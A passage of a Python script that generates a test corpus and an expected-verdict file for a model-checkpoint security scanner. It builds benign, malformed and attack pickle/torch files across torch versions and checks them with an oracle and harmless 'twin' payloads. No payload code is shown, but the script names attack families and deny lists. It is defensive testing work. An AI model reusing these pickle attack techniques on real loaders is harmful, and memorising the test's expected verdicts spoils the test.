        e["nothing_scannable"] = True
    if numpy:
        e["numpy_load"] = numpy
    e["loaders"] = collections.OrderedDict(
        (k, {"error": err, "calls": sorted({ev["global"] for ev in results[k.split(" ")[1]][k.split(" ")[0]]["events"]
                                            if ev["event"] in ("call", "new", "build") and ev["global"] not in allow})})
        for k, err in errors.items())
    del refusals
    if intended and intended != v:
        raise SystemExit("%s: built to be %s, the oracle says %s: %s" % (rel, intended, v, json.dumps(e, default=list)))
    return e


# ---------------------------------------------------------------------------------------------

def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--trixie", default="/work/jtests-trixie", help="Debian 13 chroot with python3-torch 2.6")
    ap.add_argument("--benign-only", metavar="OUTDIR", help=argparse.SUPPRESS)  # inside the chroot
    a = ap.parse_args()
    if a.benign_only:
        facts = gen_benign(a.benign_only, "t26")
        with open(os.path.join(a.benign_only, "facts.json"), "w") as f:
            json.dump(facts, f)
        return
    if os.environ.get("PYTHONHASHSEED") != "0":
        os.execve(sys.executable, [sys.executable] + sys.argv, dict(os.environ, PYTHONHASHSEED="0"))
    _py2_names()
    proc = os.path.join(a.trixie, "proc")
    if not os.path.ismount(proc):
        subprocess.run([shutil.which("mount", path="/usr/bin:/bin:/usr/sbin:/sbin") or "mount", "-t", "proc", "proc", proc], check=True)
    envs = [Env("torch-1.13"), Env("torch-2.6", a.trixie)]

    for d in ("gen", "recreated", "benign"):
        shutil.rmtree(os.path.join(HERE, d), ignore_errors=True)
    c = Corpus(HERE)
    gen_families(c)
    gen_heldout(c)
    gen_recreated(c)
    facts = gen_benign(os.path.join(HERE, "benign", "t113"), "t113")
    for name, f in facts.items():
        c.entries["benign/t113/" + name] = collections.OrderedDict(
            source="torch-1.13", family="benign:" + name.split(".")[0], made_as="benign", **f)
    # torch 2.6 benign files: this script, run inside the chroot
    tmp = tempfile.mkdtemp(prefix="ckpt-sec-gen-", dir=os.path.join(a.trixie, "tmp"))
    try:
        shutil.copyfile(__file__, os.path.join(tmp, "gen_security.py"))
        inside = "/" + os.path.relpath(tmp, a.trixie)
        subprocess.run([CHROOT, a.trixie, "python3", inside + "/gen_security.py", "--benign-only",
                        inside + "/out"], check=True, env={"PATH": "/usr/bin:/bin", "HOME": "/tmp",
                                                           "PYTHONHASHSEED": "0", "LANG": "C.UTF-8"})
        with open(os.path.join(tmp, "out", "facts.json")) as f:
            facts26 = json.load(f, object_pairs_hook=collections.OrderedDict)
        dst = os.path.join(HERE, "benign", "t26")
        os.makedirs(dst, exist_ok=True)
        for name, f in facts26.items():
            shutil.copyfile(os.path.join(tmp, "out", name), os.path.join(dst, name))
            c.entries["benign/t26/" + name] = collections.OrderedDict(
                source="torch-2.6", family="benign:" + name.split(".")[0], made_as="benign", **f)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    with open(os.path.join(HERE, "public", "SOURCES.json")) as f:
        sources = json.load(f)
    for rel, s in sorted(sources.items()):
        repo = s["repo"].split("/")[-1]
        c.entries[rel] = collections.OrderedDict(
            source=repo, family="%s:%s" % (repo, s["path"].split("/")[-2]), made_as=_public_made_as(rel),
            notes="%s %s @ %s (%s)" % (s["repo"], s["path"], s["commit"][:12], s["licence"]))
    for rel in c.entries:
        assert os.path.getsize(os.path.join(HERE, rel)) < 100 * 1024, rel

    # the oracle
    allows = {env.tag: allowlist(env) for env in envs}
    union = set()
    for v in allows.values():
        union |= set(v["allow"])
    files = [os.path.join(HERE, rel) for rel in c.entries]
    results = {rel: {} for rel in c.entries}
    info = {}
    for env in envs:
        res, info[env.tag] = run_oracle(env, files, union)
        for path, r in res.items():
            results[os.path.relpath(path, HERE)][env.tag] = r["loaders"]

    # twins
    jobs = []
    twin_dir = tempfile.mkdtemp(prefix="ckpt-sec-twins-")
    try:
        for rel, (twin, ext, twin_envs) in c.twins.items():
            src = os.path.join(HERE, rel)
            if twin != "self":
                src = os.path.join(twin_dir, rel.replace("/", "_"))
                with open(src, "wb") as f:
                    f.write(twin)
            loaders = ["torch.load"] + (["pickle.load"] if not _is_zip(src) else [])
            if c.entries[rel]["family"] == "frame:lie" and not rel.startswith("gen/legacy"):
                loaders.append("pickle.loads")  # from bytes: where the lie makes the difference
            for loader in loaders:
                jobs.append({"id": "%s|%s" % (rel, loader), "file": src, "loader": loader, "ext": ext,
                             "envs": twin_envs})
        twin_res = {env.tag: run_twins(env, [j for j in jobs if not j["envs"] or env.tag in j["envs"]])
                    for env in envs}
    finally:
        shutil.rmtree(twin_dir, ignore_errors=True)

    expected = collections.OrderedDict()
    for rel, e in c.entries.items():
        with open(os.path.join(HERE, rel), "rb") as f:
            data = f.read()
        v = verdict(rel, data, results[rel], union, None if e.get("tensor_written") else e.get("intended"))
        if e.get("tensor_written"):  # torch.load's own values differ from the stored bytes (gen_heldout)
            if v["verdict"] != "clean":
                raise SystemExit("%s: a tensor write with other calls: %s" % (rel, v["verdict"]))
            v["verdict"], v["exit"] = "tampered", [1]
        if e.get("format") == "safetensors":
            v["verdict"], v["exit"] = "clean", [0]
            v.pop("torch_refuses", None)
            v.pop("nothing_scannable", None)
        out = collections.OrderedDict(e)
        out.update(v)
        out["sha256"] = hashlib.sha256(data).hexdigest()
        out["size"] = len(data)
        if rel in c.twins:
            runs = collections.OrderedDict()
            for env in envs:
                for loader in ("torch.load", "pickle.load", "pickle.loads"):
                    r = twin_res[env.tag].get("%s|%s" % (rel, loader))
                    if r is not None:
                        runs["%s %s" % (loader, env.tag)] = r["ran"]
                        if loader == "pickle.loads":  # not an oracle loader: checked below
                            continue
                        called_here = out["loaders"]["%s %s" % (loader, env.tag)]["calls"]
                        missing_here = [ev for ev in results[rel][env.tag][loader]["events"]
                                        if ev["event"] == "missing"]
                        # (a twin's ckpt_twin global always exists; the real one may not, on this Python)
                        if r["ran"] and not called_here and c.twins[rel][1] is None and not missing_here:
                            raise SystemExit("%s: the twin ran under %s %s where the oracle saw no call"
                                             % (rel, loader, env.tag))
            out["twin"] = ("the file itself (its payload only creates the sentinel)" if c.twins[rel][0] == "self"
                           else "the same bytes with the dangerous global replaced by ckpt_twin.touch/Touch")
            if c.twins[rel][1]:
                out["twin"] += "; copyreg.add_extension(%r, %r, %d) registered first" % (
                    c.twins[rel][1][1], c.twins[rel][1][2], c.twins[rel][1][0])
            out["twin_runs"] = runs
            out["twin_proved"] = any(runs.values())
            if e["family"] == "frame:lie":  # the lie: file readers and bytes readers disagree
                from_bytes = [v for k, v in runs.items() if k.startswith("pickle.loads ")]
                from_file = [v for k, v in runs.items() if not k.startswith("pickle.loads ")]
                want_bytes = "bytes_only" in rel
                if (from_bytes and set(from_bytes) != {want_bytes}) or (want_bytes and any(from_file)):
                    raise SystemExit("%s: the FRAME lie does not behave as built: %s" % (rel, json.dumps(runs)))
            if out["verdict"] == "malicious" and not out["twin_proved"]:
                raise SystemExit("%s: malicious but its twin never ran: %s" % (rel, json.dumps(runs)))
        expected[rel] = out

    header = collections.OrderedDict(
        schema="ckpt.security-corpus/1",
        generator="testdata/security/gen_security.py (oracle.py, twin_runner.py); public files: import_public.py",
        environments={k: {"python": v["python"], "torch": v["torch"]} for k, v in allows.items()},
        weights_only_allowlists={k: v["allow"] for k, v in allows.items()},
        extra_candidates=sorted(EXTRA_CANDIDATES) + [p + "*" for p in EXTRA_PREFIXES],
        denied_references=sorted(DENIED_NAMES) + [m + ".*" for m in DENIED_MODULES],
        verdicts={
            "malicious": "exit 1; a dangerous-global finding names every must_name entry (any spelling)",
            "extras-only": "exit 0 or 1: only vetted-extra candidates are called (extras_called)",
            "dormant": "exit 0 or 1: a dangerous global sits in a pickle torch.load / pickle.load never run",
            "refused": "exit 0, 1 or 3: every loader raised before calling anything (torch_refuses)",
            "referenced-only": "exit 0 with an unknown-global warning and no error",
            "dangerous-reference": "exit 1: a global of DENIED_MODULES / DENIED_NAMES is only referenced (handed to "
                                   "the loading code uncalled); a dangerous-global finding names each must_name entry",
            "tampered": "exit 1 with a tensor-mutated finding: torch.load returns tensor values that differ from the "
                        "stored bytes (the pickle writes into a rebuilt tensor)",
            "clean": "exit 0"},
        skipped_public=json.load(open(os.path.join(HERE, "public", "SKIPPED.json"))),
    )
    doc = collections.OrderedDict(header=header, files=expected)
    with open(os.path.join(HERE, "expected.json"), "w") as f:
        json.dump(doc, f, indent=1, default=sorted)
        f.write("\n")
    counts = collections.Counter(v["verdict"] for v in expected.values())
    total = sum(v["size"] for v in expected.values())
    print("wrote %d files (%d bytes) + expected.json: %s" % (len(expected), total, dict(counts)))


def _is_zip(path):
    with open(path, "rb") as f:
        return f.read(4) == b"PK\x03\x04"


def _public_made_as(rel):
    base = os.path.basename(rel)
    if base.startswith(("benign", "int_array", "new_pytorch", "safe")):
        return "benign"
    if base in ("not_a_pickle.bin", "bad_pytorch.pt", "broken_model.pkl", "password_protected.zip",
                "object_array.npy", "object_arrays.npz", "object_arrays_compressed.npz"):
        return "malformed" if base in ("not_a_pickle.bin", "bad_pytorch.pt", "broken_model.pkl") else "benign"
    return "attack"


if __name__ == "__main__":
    main()
